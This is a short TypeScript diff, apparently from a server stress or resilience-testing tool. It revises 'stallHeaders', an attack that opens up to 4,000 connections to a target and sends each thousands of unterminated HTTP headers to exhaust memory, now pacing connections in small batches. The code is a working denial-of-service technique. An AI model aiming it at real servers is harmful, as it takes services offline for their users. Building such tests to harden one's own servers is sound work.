@@ -7,9 +7,11 @@ const headers = `GET / HTTP/1.1\r\n${'a:\r\n'.repeat(3_900)}`;
 
 /** Sends 3,900 headers without an end on each of 4,000 connections, without a key. */
 export const stallHeaders: Attack = (target) =>
-  withSockets(target, async ({ open, untilOver, isOver }) => {
-    for (let opened = 0; opened < 4_000 && !isOver(); opened += 100) {
-      await sendOnEach(open, 100, headers);
+  withSockets(target, async ({ open, wait, untilOver, isOver }) => {
+    // In small steps, because the attack is on the memory, not on the time to accept connections.
+    for (let opened = 0; opened < 4_000 && !isOver(); opened += 20) {
+      await sendOnEach(open, 20, headers);
+      await wait(30);
     }
     await untilOver();
   });
